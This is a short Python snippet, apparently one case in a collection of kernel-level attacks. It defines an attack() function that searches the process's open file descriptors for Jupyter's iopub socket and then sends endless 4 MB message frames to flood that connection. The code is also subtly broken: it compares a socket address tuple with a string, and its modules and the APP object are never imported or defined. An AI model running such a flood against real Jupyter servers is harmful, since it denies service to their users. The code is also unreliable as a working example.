"""Speaks the wire protocol itself, on Jupyter's own connection: one message of endless many parts.

kind: kernel
"""

def attack():
    part = b"\x03" + struct.pack("!Q", 4_000_000) + bytes(4_000_000)
    for fd in range(3, 200):
        try:
            peer = socket.socket(fileno=os.dup(fd))
            if peer.getsockname() == f"{APP.ip}-{APP.iopub_port}" and not peer.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                break
        except OSError: pass
    peer.setblocking(True)
    while True: peer.sendall(part)
